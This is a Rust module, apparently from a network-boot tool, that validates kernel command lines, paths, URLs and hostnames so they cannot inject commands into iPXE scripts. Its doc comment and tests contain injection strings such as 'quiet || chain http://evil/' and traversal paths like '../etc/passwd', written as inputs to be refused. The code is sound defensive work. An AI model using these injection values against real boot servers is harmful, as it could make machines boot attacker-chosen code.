//! Values that end up inside generated iPXE scripts, validated so that nothing a host table
//! says can add a command to a script.
//!
//! iPXE splits a script into lines, each line into whitespace-separated tokens with no
//! quoting, treats a token that starts with `#` as the start of a comment and the tokens
//! `||`, `&&` and `;` as command separators, and expands `${…}` inside any token. A kernel
//! command line such as `quiet || chain http://evil/` or one containing a newline would
//! therefore run commands of its author's choosing (the class of CVE-2026-46447 in Ironic).
//! Every type here refuses such input when it is built, so rendering cannot go wrong later.

use std::fmt;
use std::str::FromStr;

use serde::{Deserialize, Deserializer};

/// Longest kernel command line accepted (Linux on x86 takes 2048 bytes, and the
/// `initrd=` arguments Rivet adds need room).
pub const MAX_CMDLINE_LEN: usize = 1900;

/// Why a value cannot be placed in an iPXE script.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[non_exhaustive]
pub enum UnsafeValue {
    #[error(
        "{what} contains a control character (newline, tab, …) at byte {offset}; iPXE would read it as a new command"
    )]
    ControlCharacter { what: &'static str, offset: usize },
    #[error("{what} contains a non-ASCII character at byte {offset}")]
    NonAscii { what: &'static str, offset: usize },
    #[error(
        "{what} contains `$`, which iPXE expands as a setting (`${{…}}`); remove it or spell the value out"
    )]
    Expansion { what: &'static str },
    #[error(
        "{what} contains the token `{token}`, which iPXE treats as a command separator or comment"
    )]
    ScriptSyntax { what: &'static str, token: String },
    #[error("{what} is {len} bytes long; the limit is {max}")]
    TooLong {
        what: &'static str,
        len: usize,
        max: usize,
    },
    #[error("{what} `{value}` is invalid: {reason}")]
    Invalid {
        what: &'static str,
        value: String,
        reason: &'static str,
    },
}

/// Checks the rules every script value shares: printable ASCII, no `$`.
fn check_printable(what: &'static str, value: &str) -> Result<(), UnsafeValue> {
    for (offset, byte) in value.bytes().enumerate() {
        if !byte.is_ascii() {
            return Err(UnsafeValue::NonAscii { what, offset });
        }
        if byte.is_ascii_control() {
            return Err(UnsafeValue::ControlCharacter { what, offset });
        }
    }
    if value.contains('$') {
        return Err(UnsafeValue::Expansion { what });
    }
    Ok(())
}

/// A kernel command line that is safe on an iPXE `kernel` line.
///
/// Parameters are separated by single spaces when displayed; runs of spaces in the input
/// collapse. Quoted kernel parameters (`dyndbg="…"`) are not supported because iPXE has no
/// quoting: the quote characters would reach the kernel but the spaces would split tokens.
#[derive(Clone, PartialEq, Eq, Default)]
pub struct KernelCmdline(String);

impl KernelCmdline {
    /// The parameters, space-separated.
    pub fn as_str(&self) -> &str {
        &self.0
    }

    /// Whether there are no parameters.
    pub fn is_empty(&self) -> bool {
        self.0.is_empty()
    }
}

impl FromStr for KernelCmdline {
    type Err = UnsafeValue;

    fn from_str(input: &str) -> Result<Self, Self::Err> {
        const WHAT: &str = "the kernel command line";
        if input.len() > MAX_CMDLINE_LEN {
            return Err(UnsafeValue::TooLong {
                what: WHAT,
                len: input.len(),
                max: MAX_CMDLINE_LEN,
            });
        }
        check_printable(WHAT, input)?;
        let mut params = Vec::new();
        for param in input.split(' ').filter(|param| !param.is_empty()) {
            if param.starts_with('#') || matches!(param, "||" | "&&" | ";") {
                return Err(UnsafeValue::ScriptSyntax {
                    what: WHAT,
                    token: param.to_owned(),
                });
            }
            if param.contains('"') || param.contains('\'') || param.contains('\\') {
                return Err(UnsafeValue::Invalid {
                    what: WHAT,
                    value: param.to_owned(),
                    reason: "quotes and backslashes cannot be passed through iPXE, which has no quoting",
                });
            }
            params.push(param);
        }
        Ok(Self(params.join(" ")))
    }
}

impl fmt::Display for KernelCmdline {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

impl fmt::Debug for KernelCmdline {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "KernelCmdline({:?})", self.0)
    }
}

impl<'de> Deserialize<'de> for KernelCmdline {
    fn deserialize<D: Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
        String::deserialize(deserializer)?
            .parse()
            .map_err(serde::de::Error::custom)
    }
}

/// Characters allowed in a path segment under the HTTP root: enough for real file names,
/// nothing a URL or a script would need to escape.
fn is_path_char(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'_' | b'-' | b'+' | b'~')
}

/// A file under the HTTP root, as a relative path of plain segments.
#[derive(Clone, PartialEq, Eq, Hash)]
pub struct RelativePath(String);

impl RelativePath {
    pub fn as_str(&self) -> &str {
        &self.0
    }

    /// The last segment.
    pub fn file_name(&self) -> &str {
        self.0.rsplit('/').next().unwrap_or(&self.0)
    }
}

impl FromStr for RelativePath {
    type Err = UnsafeValue;

    fn from_str(input: &str) -> Result<Self, Self::Err> {
        const WHAT: &str = "a file path";
        let invalid = |reason| UnsafeValue::Invalid {
            what: WHAT,
            value: input.chars().take(200).collect(),
            reason,
        };
        if input.len() > 1024 {
            return Err(UnsafeValue::TooLong {
                what: WHAT,
                len: input.len(),
                max: 1024,
            });
        }
        if input.is_empty() {
            return Err(invalid("it is empty"));
        }
        if input.starts_with('/') {
            return Err(invalid("it must be relative to the HTTP root"));
        }
        for segment in input.split('/') {
            if segment.is_empty() || segment == "." || segment == ".." {
                return Err(invalid(
                    "empty, `.` and `..` segments are not allowed (the file must stay under the root)",
                ));
            }
            if !segment.bytes().all(is_path_char) {
                return Err(invalid(
                    "only letters, digits and `._-+~` are allowed in path segments",
                ));
            }
        }
        Ok(Self(input.to_owned()))
    }
}

impl fmt::Display for RelativePath {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

impl fmt::Debug for RelativePath {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "RelativePath({:?})", self.0)
    }
}

/// An absolute `http://` or `https://` URL that is safe as one iPXE token.
#[derive(Clone, PartialEq, Eq, Hash)]
pub struct SafeUrl(String);

impl SafeUrl {
    pub fn as_str(&self) -> &str {
        &self.0
    }

    /// The last path segment, if it is usable as an iPXE image name.
    pub fn file_name(&self) -> Option<&str> {
        let path = self.0.split(['?', '#']).next().unwrap_or_default();
        let after_authority = path.splitn(4, '/').nth(3)?;
        let name = after_authority.rsplit('/').next()?;
        ImageName::is_valid(name).then_some(name)
    }
}

impl FromStr for SafeUrl {
    type Err = UnsafeValue;

    fn from_str(input: &str) -> Result<Self, Self::Err> {
        const WHAT: &str = "a URL";
        let invalid = |reason| UnsafeValue::Invalid {
            what: WHAT,
            value: input.chars().take(200).collect(),
            reason,
        };
        if input.len() > 2048 {
            return Err(UnsafeValue::TooLong {
                what: WHAT,
                len: input.len(),
                max: 2048,
            });
        }
        check_printable(WHAT, input)?;
        if input.contains(' ') {
            return Err(invalid("it contains a space"));
        }
        let parsed = url::Url::parse(input).map_err(|_| invalid("it does not parse as a URL"))?;
        if !matches!(parsed.scheme(), "http" | "https") {
            return Err(invalid("only http:// and https:// URLs are supported"));
        }
        // The url crate would read `http:///x` as host `x`; an operator meant something else.
        let after_scheme = &input[parsed.scheme().len() + 1..];
        if !after_scheme.starts_with("//") || after_scheme[2..].starts_with('/') {
            return Err(invalid("it has no host"));
        }
        if parsed.host_str().is_none_or(str::is_empty) {
            return Err(invalid("it has no host"));
        }
        if !parsed.username().is_empty() || parsed.password().is_some() {
            return Err(invalid(
                "credentials in URLs would be printed in every boot script; serve the file without them",
            ));
        }
        // Keep the user's spelling: re-serialising could change what the server sees.
        Ok(Self(input.to_owned()))
    }
}

impl fmt::Display for SafeUrl {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

impl fmt::Debug for SafeUrl {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "SafeUrl({:?})", self.0)
    }
}

/// A name iPXE gives a downloaded image, which the kernel line refers to as `initrd=<name>`.
#[derive(Clone, PartialEq, Eq, Hash)]
pub struct ImageName(String);

impl ImageName {
    fn is_valid(name: &str) -> bool {
        !name.is_empty()
            && name.len() <= 64
            && !name.starts_with('.')
            && name
                .bytes()
                .all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'_' | b'-'))
    }

    /// `name` if it is a valid image name, else `fallback` (which must be valid).
    pub(crate) fn or_fallback(name: Option<&str>, fallback: String) -> Self {
        match name {
            Some(name) if Self::is_valid(name) => Self(name.to_owned()),
            _ => Self(fallback),
        }
    }

    pub fn as_str(&self) -> &str {
        &self.0
    }
}

impl fmt::Display for ImageName {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

impl fmt::Debug for ImageName {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "ImageName({:?})", self.0)
    }
}

/// A host name for DHCP option 12 (RFC 1123 labels, dot-separated).
#[derive(Clone, PartialEq, Eq, Hash)]
pub struct Hostname(String);

impl Hostname {
    pub fn as_str(&self) -> &str {
        &self.0
    }
}

impl FromStr for Hostname {
    type Err = UnsafeValue;

    fn from_str(input: &str) -> Result<Self, Self::Err> {
        let invalid = |reason| UnsafeValue::Invalid {
            what: "a host name",
            value: input.chars().take(80).collect(),
            reason,
        };
        if input.is_empty() || input.len() > 253 {
            return Err(invalid("it must be 1 to 253 characters long"));
        }
        for label in input.split('.') {
            let valid = !label.is_empty()
                && label.len() <= 63
                && !label.starts_with('-')
                && !label.ends_with('-')
                && label
                    .bytes()
                    .all(|byte| byte.is_ascii_alphanumeric() || byte == b'-');
            if !valid {
                return Err(invalid(
                    "each dot-separated label must be 1-63 letters, digits or inner hyphens",
                ));
            }
        }
        Ok(Self(input.to_owned()))
    }
}

impl fmt::Display for Hostname {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

impl fmt::Debug for Hostname {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "Hostname({:?})", self.0)
    }
}

impl<'de> Deserialize<'de> for Hostname {
    fn deserialize<D: Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
        String::deserialize(deserializer)?
            .parse()
            .map_err(serde::de::Error::custom)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ordinary_kernel_parameters_pass_and_spaces_collapse() {
        let cmdline: KernelCmdline =
            "  console=ttyS0,115200n8   ipa-insecure=1 root=/dev/ram0 rd.debug  "
                .parse()
                .unwrap();
        assert_eq!(
            cmdline.as_str(),
            "console=ttyS0,115200n8 ipa-insecure=1 root=/dev/ram0 rd.debug"
        );
    }

    #[test]
    fn script_injection_through_the_command_line_is_refused() {
        for (input, expected) in [
            ("quiet\nchain http://evil/", "control character"),
            ("quiet\r\nshell", "control character"),
            ("quiet\tshell", "control character"),
            ("quiet || shell", "`||`"),
            ("quiet && chain http://evil/x", "`&&`"),
            ("quiet ; shell", "`;`"),
            ("quiet #rest", "`#rest`"),
            ("a=${net0/ip}", "`$`"),
            ("a=$x", "`$`"),
            ("dyndbg=\"file x +p\"", "quotes"),
            ("a=\\", "backslashes"),
            ("quiet é", "non-ASCII"),
        ] {
            let err = input.parse::<KernelCmdline>().unwrap_err().to_string();
            assert!(err.contains(expected), "{input:?}: {err}");
        }
    }

    #[test]
    fn tokens_that_only_contain_separator_characters_are_harmless_and_allowed() {
        // iPXE only treats whole tokens as separators.
        let cmdline: KernelCmdline = "a||b c&&d e;f g#h".parse().unwrap();
        assert_eq!(cmdline.as_str(), "a||b c&&d e;f g#h");
    }

    #[test]
    fn overlong_command_lines_are_refused() {
        let long = "a".repeat(MAX_CMDLINE_LEN + 1);
        assert!(matches!(
            long.parse::<KernelCmdline>(),
            Err(UnsafeValue::TooLong { .. })
        ));
    }

    #[test]
    fn relative_paths_stay_under_the_root() {
        assert_eq!(
            "agent/vmlinuz-6.1"
                .parse::<RelativePath>()
                .unwrap()
                .file_name(),
            "vmlinuz-6.1"
        );
        for bad in [
            "",
            "/etc/passwd",
            "../etc/passwd",
            "a/../../b",
            "a//b",
            "a/./b",
            "a b",
            "a$b",
            "a\nb",
            "a?b",
        ] {
            assert!(bad.parse::<RelativePath>().is_err(), "{bad:?} accepted");
        }
    }

    #[test]
    fn urls_must_be_plain_http_tokens() {
        let url: SafeUrl = "https://images.example.com/agent/initramfs.cpio.gz?v=2"
            .parse()
            .unwrap();
        assert_eq!(url.file_name(), Some("initramfs.cpio.gz"));
        let root: SafeUrl = "http://10.0.0.1:8080".parse().unwrap();
        assert_eq!(root.file_name(), None);
        for bad in [
            "ftp://x/y",
            "http://x/a b",
            "http://x/a\nshell",
            "http://x/${y}",
            "file:///etc/passwd",
            "http://user:secret@x/y",
            "not a url",
            "http:///nohost",
        ] {
            assert!(bad.parse::<SafeUrl>().is_err(), "{bad:?} accepted");
        }
    }

    #[test]
    fn hostnames_follow_rfc_1123() {
        assert!("node-1.rack-2.example".parse::<Hostname>().is_ok());
        for bad in [
            "",
            "-node",
            "node-",
            "no_de",
            "a..b",
            "x\ny",
            &"a".repeat(64),
        ] {
            assert!(bad.parse::<Hostname>().is_err(), "{bad:?} accepted");
        }
    }

    #[test]
    fn image_names_fall_back_when_unusable() {
        assert_eq!(
            ImageName::or_fallback(Some("initrd.img"), "initrd0".into()).as_str(),
            "initrd.img"
        );
        assert_eq!(
            ImageName::or_fallback(Some(".hidden"), "initrd0".into()).as_str(),
            "initrd0"
        );
        assert_eq!(
            ImageName::or_fallback(None, "initrd1".into()).as_str(),
            "initrd1"
        );
    }
}
